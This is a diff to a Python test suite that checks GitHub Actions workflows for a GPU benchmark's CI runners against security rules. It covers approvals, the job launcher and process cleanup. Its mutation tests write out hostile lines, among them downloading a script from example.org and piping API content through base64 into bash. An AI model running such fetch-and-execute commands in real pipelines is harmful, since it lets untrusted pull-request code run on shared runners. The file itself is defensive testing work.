@@ -7,7 +7,8 @@ small edit of a real workflow, with the checks that must reject it).
   with which commit; no token there; such a job ends its processes and removes its files; code enters through
   actions/checkout only; no $GITHUB_ENV in what a pull request triggers, nothing downloaded is executed or
   evaluated; a job that may write runs no project code; the approval checks the label's sender for exactly the roles
-  that may push and never fails open, and a push revokes it; the end of a GPU job says what outlived it. Labels
+  that may push and never fails open, and a push revokes it; a GPU job's main step is marked, read whole and trapped, and its cleanup step runs the
+  runner's root-owned job-cleanup.py on the main step's outputs (tests/test_job_cleanup.py runs both for real). Labels
   count as GitHub matches them (any case), and a job on anything but one GitHub-hosted image counts as self-hosted.
   Every workflow file is held to the rules, so one a pull request adds is too. The report job, run with a fake gh,
   posts to the event's PR and commit, fenced.
@@ -19,6 +20,7 @@ import json
 import os
 import re
 import shutil
+import signal
 import subprocess
 import sys
 import time
@@ -124,9 +126,24 @@ def rule_runners(workflow: dict) -> list[str]:
             main = " ".join(step.get("run", "") for step in job["steps"])
             if not re.search(r"(^|\s)\. base/\.github/gpu-job\.sh base\b", main) or "pr/.github" in main:
                 problems.append(f"{name}: the job's isolation (gpu-job.sh) must come from base/ and install from it")
+            problems += [f"{name}: {line[:80]!r} runs the pull request's content outside the job user's launcher "
+                         f"({LAUNCH.strip()} JOB_DIR ... -- COMMAND)" for line in _unlaunched(main)]
         else:
             problems.append(f"{name}: self-hosted needs exactly one of the labels gpu-trusted, gpu-untrusted")
     return problems
+
+
+LAUNCH = "sudo -n /usr/local/libexec/sgemm-runner/job-launch "  # the runner's root-owned launcher (job-launch.py)
+RUNS_CONTENT = re.compile(r"\b(sgemm|asv|python3?|pip3?|nvcc|make|cmake)\b|\bpr/")
+
+
+def _unlaunched(script: str) -> list[str]:
+    """The command lines of a script (continuations joined) that run what a checkout holds (sgemm, asv, python,
+    pip, a build, anything of pr/) other than through the launcher; git, the isolation script and the runner's
+    installed cleanup aside."""
+    lines = re.sub(r"\\\n\s*", " ", script).splitlines()
+    return [line.strip() for line in lines if RUNS_CONTENT.search(line.replace(CLEANUP, "")) and not line.strip().startswith(
+        (LAUNCH, "#", ". base/.github/gpu-job.sh", "merge_base=$(git -C pr merge-base"))]
 
 
 def rule_no_token(workflow: dict) -> list[str]:
@@ -243,6 +260,7 @@ def rule_approval(workflow: dict) -> list[str]:
     for name, job in ((name, jobs.get(name, {})) for name in guarding):
         if job.get("continue-on-error") or any(step.get("continue-on-error") for step in job.get("steps", [])):
             problems.append(f"{name}: continue-on-error lets a failed check through")
+    problems += _review_problems(approve)
     revoke = jobs.get("revoke", {})
     if "labels/gpu-gate-approved" not in json.dumps(revoke.get("steps", [])) or \
             "github.event.action != 'labeled'" not in " ".join(str(revoke.get("if", "")).split()):
@@ -250,20 +268,74 @@ def rule_approval(workflow: dict) -> list[str]:
     return problems
 
 
-def rule_says_what_survived(workflow: dict) -> list[str]:
-    """The step that ends a GPU job's session also says which processes of the runner's user outlived it."""
+# The approving review the label's author gave on the event's head: all three, joined by `and`.
+REVIEW_TERMS = (".user.login == $ENV.SENDER", ".commit_id == $ENV.HEAD_SHA", '.state == "APPROVED"')
+REVIEW_ENV = {"SENDER": "${{ github.event.sender.login }}", "HEAD_SHA": APPROVED_HEAD,
+              "PR_NUMBER": "${{ github.event.pull_request.number }}"}
+
+
+def _review_problems(approve: dict) -> list[str]:
+    """The approval names its commit: the label's author approved, in a review, the very head the event names
+    (the one the GPU job checks out), and no such review fails the job."""
+    step = next((step for step in approve.get("steps", []) if "/reviews" in step.get("run", "")), None)
+    if step is None:
+        return ["approve: no step checks that the label's author approved the event's head in a review"]
+    problems, script = [], step["run"]
+    env = {key: str(value) for key, value in step.get("env", {}).items()}
+    if {key: env.get(key) for key in REVIEW_ENV} != REVIEW_ENV:
+        problems.append(f"approve: the review check must take {REVIEW_ENV} from the event")
+    selected = re.search(r"select\((.*?)\)\s*\|", script, re.S)
+    terms = [term.strip() for term in selected.group(1).split(" and ")] if selected else []
+    if sorted(terms) != sorted(REVIEW_TERMS) or not re.search(r'"repos/\$GITHUB_REPOSITORY/pulls/\$PR_NUMBER/reviews"',
+                                                             script):
+        problems.append(f"approve: the reviews must be selected by exactly {' and '.join(REVIEW_TERMS)}")
+    if not re.search(r'if \[ -z "\$reviews" \]; then\n(\s+[^\n]*\n)*?\s+exit [1-9]\n\s*fi', script):
+        problems.append("approve: no approving review of the head must fail the job")
+    return problems
+
+
+CLEANUP = "/usr/bin/python3 -I /usr/local/libexec/sgemm-runner/job-cleanup.py"  # the runner's root-owned copy
+CLEANUP_ENV = {"JOB_SESSION": "session", "JOB_MARK": "mark", "JOB_STARTED": "started"}
+
+
+def rule_contains_the_job(workflow: dict) -> list[str]:
+    """A GPU job's main step marks its processes, is read whole before it runs (braces, `}; exit`), and its EXIT
+    trap runs the runner's installed cleanup (`step`), failing the step when it finds anything; an `if: always()`
+    step then runs the installed cleanup (`job`) on the main step's outputs, by exec, nothing after it, and nothing
+    lets either fail quietly. The cleanup comes from the runner's root-owned copy: the job's code can rewrite any
+    checkout."""
     problems = []
     for name, job in self_hosted(workflow):
-        ending = [step.get("run", "") for step in job["steps"] if step.get("if") in ALWAYS and "pkill" in
-                  step.get("run", "")]
-        if not any("ps -u" in text and "::warning::" in text for text in ending):
-            problems.append(f"{name}: nothing reports the processes that outlived the job")
+        main = next((step for step in job["steps"] if step.get("id") == "main"), {})
+        script = main.get("run", "")
+        lines = [line for line in script.splitlines() if line.strip()]
+        if not lines or lines[0] != "{" or lines[-1] != "}; exit":
+            problems.append(f"{name}: the main step is not one block read before it runs ({{ ... }}; exit)")
+        trap = re.search(r"^trap '(.*?)' EXIT$", script, re.MULTILINE | re.DOTALL)
+        if not trap or f"{CLEANUP} step || status=3" not in trap.group(1) or 'exit "$status"' not in trap.group(1):
+            problems.append(f"{name}: the main step's EXIT trap must run `{CLEANUP} step` and fail the step on it")
+        if not re.search(r'^export SGEMM_JOB_MARK="\$mark" JOB_OUTPUTS$', script, re.MULTILINE) or \
+                not re.search(r"^mark=\$\(od -An -N16 -tx1 /dev/urandom", script, re.MULTILINE):
+            problems.append(f"{name}: the main step must export a fresh SGEMM_JOB_MARK and JOB_OUTPUTS")
+        if trap and not 0 <= script.find("trap '") < script.find("gpu-job.sh"):
+            problems.append(f"{name}: the trap must be set before the job's code can run")
+        ending = [step for step in job["steps"] if step.get("run", "").strip() == f"exec {CLEANUP} job"]
+        if len(ending) != 1 or ending[0].get("if") not in ALWAYS:
+            problems.append(f"{name}: one `if: always()` step must run `exec {CLEANUP} job`, no more")
+        elif {key: str(value) for key, value in ending[0].get("env", {}).items()} != \
+                {key: f"${{{{ steps.main.outputs.{output} }}}}" for key, output in CLEANUP_ENV.items()}:
+            problems.append(f"{name}: the cleanup step must take the main step's session, mark and start alone")
+        if any(step.get("continue-on-error") for step in [main, *ending]):
+            problems.append(f"{name}: continue-on-error lets a job that left something behind pass")
+        if any("job-cleanup.py" in step.get("run", "") and CLEANUP not in step.get("run", "")
+               for step in job["steps"]):
+            problems.append(f"{name}: job-cleanup.py run from elsewhere than the runner's copy")
     return problems
 
 
 RULES = {rule.__name__[5:].replace("_", " "): rule for rule in (
     rule_runners, rule_no_token, rule_ends_its_processes, rule_code_only_through_checkout, rule_untrusted_data,
-    rule_write_token, rule_approval, rule_says_what_survived, rule_pushes_results_alone)}
+    rule_write_token, rule_approval, rule_contains_the_job, rule_pushes_results_alone)}
 
 
 # --- the report job, run with a fake gh ------------------------------------------------------------------------------
@@ -317,6 +389,50 @@ def report_problems(text: str, tmp: Path) -> list[str]:
     return []
 
 
+# --- the approval's review check, run with a fake gh (jq applies gh's --jq) ------------------------------------------
+
+FAKE_GH_REVIEWS = """#!/usr/bin/env bash
+# gh api ... --jq EXPR: the canned reviews of $FAKE_REVIEWS through EXPR, as gh would page them
+while [ "$#" -gt 0 ]; do [ "$1" = --jq ] && exec jq -r "$2" "$FAKE_REVIEWS"; shift; done
+cat "$FAKE_REVIEWS"
+"""
+REVIEWED_HEAD, EARLIER = "a" * 40, "b" * 40
+# Each: the reviews on the pull request, and whether the label's author ("keeper") approved the head.
+REVIEWS = {
+    "approved at the head": ([("keeper", REVIEWED_HEAD, "APPROVED")], True),
+    "approved at an earlier commit (a push came before the label)": ([("keeper", EARLIER, "APPROVED")], False),
+    "another writer's approval": ([("someone", REVIEWED_HEAD, "APPROVED")], False),
+    "changes requested at the head": ([("keeper", REVIEWED_HEAD, "CHANGES_REQUESTED")], False),
+    "a comment at the head": ([("keeper", REVIEWED_HEAD, "COMMENTED")], False),
+    "an approval dismissed": ([("keeper", REVIEWED_HEAD, "DISMISSED")], False),
+    "no review": ([], False),
+}
+
+
+def review_problems(text: str, tmp: Path) -> list[str]:
+    """Run the approval's review check on each set of reviews: it passes on the label's author's approval of the
+    event's head alone."""
+    approve = load(text)["jobs"].get("approve", {})
+    step = next((s for s in approve.get("steps", []) if "/reviews" in s.get("run", "")), None)
+    if step is None:
+        return ["no review check"]
+    (tmp / "bin").mkdir(exist_ok=True)
+    (tmp / "bin" / "gh").write_text(FAKE_GH_REVIEWS)
+    (tmp / "bin" / "gh").chmod(0o755)
+    problems = []
+    for name, (reviews, approved) in REVIEWS.items():
+        (tmp / "reviews.json").write_text(json.dumps([{"id": i, "user": {"login": who}, "commit_id": sha, "state": state}
+                                                      for i, (who, sha, state) in enumerate(reviews, 1)]))
+        env = dict(os.environ, PATH=f"{tmp / 'bin'}{os.pathsep}{os.environ['PATH']}",
+                   FAKE_REVIEWS=str(tmp / "reviews.json"), GITHUB_REPOSITORY="owner/repo", GH_TOKEN="x",
+                   SENDER="keeper", PR_NUMBER="7", HEAD_SHA=REVIEWED_HEAD)
+        done = subprocess.run(["bash", "-eo", "pipefail", "-c", step["run"]], check=False, env=env,
+                              capture_output=True, text=True)
+        if (done.returncode == 0) != approved:
+            problems.append(f"{name}: {'refused' if approved else 'passed'} ({done.stdout.strip()})")
+    return problems
+
+
 # --- MUTATIONS -----------------------------------------------------------------------------------------------------
 
 def edit(file: str, old: str, new: str, *checks: str) -> tuple:
@@ -328,6 +444,9 @@ def add(file: str, after: str, lines: str, *checks: str) -> tuple:
 
 
 REPORT_RUN = "        run: |\n          code=$(head -c 8"
+LAUNCHED_GATE = ('sudo -n /usr/local/libexec/sgemm-runner/job-launch "$JOB_DIR" --env "SGEMM_CUDA_SITE=$SGEMM_CUDA_SITE"'
+                 ' -- \\\n            sgemm gate')
+REVIEW_STEP_HEAD = "HEAD_SHA: ${{ github.event.pull_request.head.sha }}\n        # A review records"
 HISTORY_GPU_PERMISSIONS = "    permissions:\n      contents: read  # check out main and the results branch\n"
 
 
@@ -382,7 +501,7 @@ MUTATIONS = {
     "f: PR title into $GITHUB_ENV (hosted job)": edit(
         GATE, "login }}\n        run: |\n", "login }}\n          TITLE: ${{ github.event.pull_request.title }}\n"
         '        run: |\n          echo "TITLE=$TITLE" >> "$GITHUB_ENV"\n', "untrusted data", "zizmor:github-env"),
-    "f: PR title into $GITHUB_ENV (GPU job)": add(GATE, '"session=$$" >> "$GITHUB_OUTPUT"\n',
+    "f: PR title into $GITHUB_ENV (GPU job)": add(GATE, '"$JOB_OUTPUTS" >> "$GITHUB_OUTPUT"\n',
                                                    '          echo "TITLE=$TITLE" >> "$GITHUB_ENV"\n',
                                                    "untrusted data"),
     # what else a GPU box, the verdict or a write token must not allow
@@ -425,9 +544,13 @@ MUTATIONS = {
         "mine.yml", OWN_WORKFLOW.format(event="pull_request", labels="[linux, gpu]"), "runners"),
     "the approval accepts triage": edit(GATE, "admin|write) echo", "admin|write|triage) echo", "approval"),
     "the approval accepts read": edit(GATE, "admin|write) echo", "admin|write|read) echo", "approval"),
-    "the approval checks the pull request's author": edit(GATE, "SENDER: ${{ github.event.sender.login }}",
-                                                          "SENDER: ${{ github.event.pull_request.user.login }}",
-                                                          "approval"),
+    "the approval checks the pull request's author": edit(GATE, "SENDER: ${{ github.event.sender.login }}\n"
+                                                          "        run: |\n          if !",
+                                                          "SENDER: ${{ github.event.pull_request.user.login }}\n"
+                                                          "        run: |\n          if !", "approval"),
+    "the review check asks for the pull request's author's review": edit(
+        GATE, "SENDER: ${{ github.event.sender.login }}\n          PR_NUMBER",
+        "SENDER: ${{ github.event.pull_request.user.login }}\n          PR_NUMBER", "approval"),
     "the approve job continues on error": edit(GATE, "    steps:\n      - name: The label's author may push",
                                                "    continue-on-error: true\n    steps:\n      - name: The label's "
                                                "author may push", "approval"),
@@ -439,9 +562,6 @@ MUTATIONS = {
                                         "runners"),
     "gpu-job.sh from base/, sgemm installed from pr/": edit(GATE, ". base/.github/gpu-job.sh base",
                                                              ". base/.github/gpu-job.sh pr", "runners"),
-    "the leftover-process warning removed": edit(
-        GATE, 'echo "::warning::processes of the runner\'s user outside the runner\'s session:"', "true",
-        "says what survived"),
     "pr/ replaced by a tarball of the head": add(
         GATE, "gpu-job.sh base\n",
         '          curl -sL "https://api.github.com/repos/$GITHUB_REPOSITORY/tarball/$HEAD_SHA" | tar xz -C pr\n',
@@ -476,7 +596,7 @@ MUTATIONS = {
                                 "untrusted data"),
     "an artifact run through process substitution": edit(GATE, REPORT_RUN, before_report(
         'bash <(cat "$ARTIFACT_DIR/gate-report.md")'), "untrusted data"),
-    "the PR's path into $GITHUB_PATH": add(GATE, '"session=$$" >> "$GITHUB_OUTPUT"\n',
+    "the PR's path into $GITHUB_PATH": add(GATE, '"$JOB_OUTPUTS" >> "$GITHUB_OUTPUT"\n',
                                            '          echo "$PWD/pr/bin" >> "$GITHUB_PATH"\n', "untrusted data"),
     "the merge job runs a script of the incoming results": edit(HISTORY, "          shopt -s nullglob\n",
                                                                 "          shopt -s nullglob\n"
@@ -490,8 +610,39 @@ MUTATIONS = {
     "the history's GPU job downloads code": add(HISTORY, "          . .github/gpu-job.sh .\n",
                                                 "          wget -q https://example.org/x.py\n",
                                                 "code only through checkout"),
-    "the session is no longer killed": edit(GATE, 'pkill -KILL --session "$SESSION" || true', "true",
-                                            "says what survived"),
+    # a pull request's code left on the box: the containment weakened (tests/test_job_cleanup.py runs it for real)
+    "the main step's trap removed": edit(GATE, between(GATE, "          trap 'status=$?", "          . base/"), "",
+                                         "contains the job"),
+    "the trap's finding does not fail the step": edit(GATE, "job-cleanup.py step || status=3",
+                                                      "job-cleanup.py step || true", "contains the job"),
+    "the trap runs the cleanup of the checkout": edit(GATE, "/usr/local/libexec/sgemm-runner/job-cleanup.py step",
+                                                      "base/.github/runner/job-cleanup.py step", "contains the job"),
+    "the cleanup step runs the pull request's copy": edit(
+        GATE, "run: exec /usr/bin/python3 -I /usr/local/libexec/sgemm-runner/job-cleanup.py job",
+        "run: exec python3 pr/.github/runner/job-cleanup.py job", "contains the job"),
+    "the cleanup step only on success": edit(GATE, "what it planted\n        if: always()",
+                                             "what it planted\n        if: success()", "contains the job"),
+    "the cleanup step continues on error": edit(GATE, "what it planted\n        if: always()",
+                                                "what it planted\n        if: always()\n        continue-on-error: true",
+                                                "contains the job"),
+    "the cleanup step's failure swallowed": edit(GATE, "job-cleanup.py job\n", "job-cleanup.py job || true\n",
+                                                 "contains the job"),
+    "the cleanup step spares the user's other processes": edit(HISTORY, "job-cleanup.py job\n",
+                                                                "job-cleanup.py job --only-marked\n",
+                                                                "contains the job"),
+    "the cleanup step without the job's mark": edit(GATE, "JOB_MARK: ${{ steps.main.outputs.mark }}", 'JOB_MARK: ""',
+                                                    "contains the job"),
+    "the cleanup step deleted from the history": edit(HISTORY, between(
+        HISTORY, "      - name: End every process the benchmarks", "      # Uploaded even when"), "",
+        "contains the job"),
+    "the mark not exported": edit(GATE, 'export SGEMM_JOB_MARK="$mark" JOB_OUTPUTS', "export JOB_OUTPUTS",
+                                  "contains the job"),
+    "the main step read as it runs (no braces)": edit(HISTORY, "          }; exit\n", "          }\n          exit\n",
+                                                      "contains the job"),
+    "the trap set after the isolation script": edit(
+        GATE, between(GATE, "          trap 'status=$?", "          . base/") + "          . base/.github/gpu-job.sh base\n",
+        "          . base/.github/gpu-job.sh base\n" + between(GATE, "          trap 'status=$?", "          . base/"),
+        "contains the job"),
     "the status taken from the artifact alone": edit(GATE, 'case "$GATE_RESULT:$code" in', 'case "success:$code" in',
                                                      "report"),
     "a pinned third-party action checks the head out into pr/": add(
@@ -502,6 +653,29 @@ MUTATIONS = {
     "push-results copies the artifact to the branch root": edit(HISTORY, 'cp -R -- "$MERGED"/. results/',
                                                                 'cp -R -- "$MERGED"/. ./', "pushes results alone"),
     "push-results adds everything": edit(HISTORY, "git add -A results", "git add -A", "pushes results alone"),
+    # the approval names its commit: the label's author approved the event's head in a review
+    "the approval takes a review of any commit": edit(GATE, " and .commit_id == $ENV.HEAD_SHA", "", "approval",
+                                                      "review"),
+    "the approval takes a review in any state": edit(GATE, ' and .state == "APPROVED"', "", "approval", "review"),
+    "the approval takes anyone's review": edit(GATE, ".user.login == $ENV.SENDER and ", "", "approval", "review"),
+    "the approval takes either term": edit(GATE, "and .commit_id == $ENV.HEAD_SHA", "or .commit_id == $ENV.HEAD_SHA",
+                                           "approval", "review"),
+    "the approval's commit is the head branch": edit(GATE, REVIEW_STEP_HEAD, REVIEW_STEP_HEAD.replace(
+        "head.sha", "head.ref"), "approval"),
+    "no approving review passes": edit(GATE, '"review that commit, approve it, then add the label again"\n'
+                                       "            exit 1", '"review that commit, approve it, then add the label '
+                                       'again"\n            exit 0', "approval", "review"),
+    "the review check deleted": edit(GATE, between(GATE, "      - name: The label's author approved this very",
+                                                   "  gate:\n"), "\n", "approval"),
+    # the pull request's content run as the job user, through the runner's launcher (tests/test_job_launch.py)
+    "the gate run without the launcher": edit(GATE, LAUNCHED_GATE, "sgemm gate", "runners"),
+    "the launcher taken from the checkout": edit(GATE, "sudo -n /usr/local/libexec/sgemm-runner/job-launch",
+                                                 "sudo -n base/.github/runner/job-launch.py", "runners"),
+    "a dry run of the gate outside the launcher": add(GATE, '          echo "comparing $merge_base',
+                                                      ' > /dev/null; sgemm gate "$merge_base" "$HEAD_SHA" --repo pr '
+                                                      '--dry-run\n          echo "again', "runners"),
+    "the head's own script run beside the gate": add(GATE, "          status=0\n", "          bash pr/setup.sh\n",
+                                                     "runners"),
     "the report job runs a script of the PR from the API": edit(GATE, REPORT_RUN, before_report(
         'gh api "repos/$GITHUB_REPOSITORY/contents/run.sh?ref=$HEAD_SHA" --jq .content | base64 -d | bash'),
         "untrusted data", "code only through checkout"),
@@ -584,6 +758,12 @@ def test_the_workflows_keep_the_rule(file, rule):
     assert RULES[rule](load((WORKFLOWS / file).read_text())) == []
 
 
+def test_only_the_label_authors_approval_of_the_head_passes(tmp_path):
+    if shutil.which("jq") is None:
+        pytest.skip("jq is not installed (it stands in for gh's --jq)")
+    assert review_problems((WORKFLOWS / GATE).read_text(), tmp_path) == []
+
+
 def test_the_report_goes_to_the_event_fenced(tmp_path):
     assert report_problems((WORKFLOWS / GATE).read_text(), tmp_path) == []
 
@@ -597,6 +777,8 @@ def test_the_attack_is_caught(name, tmp_path):
             assert check[len("zizmor:"):] in {f["ident"] for f in zizmor(tmp_path / file)}, f"{check} missed it"
         elif check == "report":
             assert report_problems(text, tmp_path), "the report step let it through"
+        elif check == "review":
+            assert review_problems(text, tmp_path), "the review check let it through"
         else:
             assert RULES[check](load(text)), f"the rule '{check}' let it through"
 
@@ -607,21 +789,37 @@ def steps_named(prefix: str) -> list:
 
 
 @pytest.mark.parametrize("step", steps_named("End every process"))
-def test_the_session_is_ended(step):
-    # As asv does: a process group of its own inside the session, which killing the step's group would miss.
-    leader = subprocess.Popen(["bash", "-c", "sleep 300 & python3 -c 'import os, time; os.setpgid(0, 0); "
-                               "time.sleep(300)' & wait"], start_new_session=True)
+def test_the_session_is_ended(step, tmp_path):
+    """The cleanup step as the workflow has it, with the runner's copy installed in tmp_path: what the main step's
+    session left (as asv does: a process group of its own inside it, which killing a group would miss) is ended, by
+    id, and the step fails. Its own session and the user's other processes are spared."""
+    (tmp_path / "state").mkdir()
+    installed = tmp_path / "job-cleanup.py"
+    installed.write_text((ROOT / ".github" / "runner" / "job-cleanup.py").read_text()
+                         .replace("@STATE_DIR@", str(tmp_path / "state")))
+    spawn = ("sleep 300 > /dev/null 2>&1 & echo $!; python3 -c 'import os, time; os.setpgid(0, 0); time.sleep(300)'"
+             " > /dev/null 2>&1 & echo $!")
+    leader = subprocess.run(["setsid", "bash", "-c", spawn],
+                            capture_output=True, text=True, check=True)  # the leader has ended, as the main step has
+    children = [int(pid) for pid in leader.stdout.split()]
     try:
-        time.sleep(0.5)
-        subprocess.run(["bash", "-c", step["run"]], env=dict(os.environ, SESSION=str(leader.pid)), check=True,
-                       capture_output=True)
-        leader.wait(timeout=10)
+        session = os.getsid(children[0])
+        run = step["run"].replace(CLEANUP.split()[-1], str(installed)) + f" --watch {tmp_path} --only-marked"
+        done = subprocess.run(["bash", "-c", run], check=False, capture_output=True, text=True, timeout=60,
+                              env=dict(os.environ, JOB_SESSION=str(session), JOB_MARK="a" * 32,
+                                       JOB_STARTED=str(time.time_ns())))
+        assert done.returncode == 1 and "outlived the job: ended" in done.stdout, done.stdout + done.stderr
         time.sleep(0.2)
-        ps = subprocess.run(["ps", "-o", "pid=,stat=", "-s", str(leader.pid)], capture_output=True, text=True)
+        ps = subprocess.run(["ps", "-o", "pid=,stat=", "-s", str(session)], check=False, capture_output=True,
+                            text=True)
         left = [line for line in ps.stdout.splitlines() if not line.split()[1].startswith("Z")]  # Z: dead
         assert not left, f"still running in the session: {left}"
     finally:
-        subprocess.run(["pkill", "-KILL", "--session", str(leader.pid)])
+        for pid in children:
+            try:
+                os.kill(pid, signal.SIGKILL)
+            except ProcessLookupError:
+                pass
 
 
 @pytest.mark.parametrize("step", steps_named("Remove the job's files"))
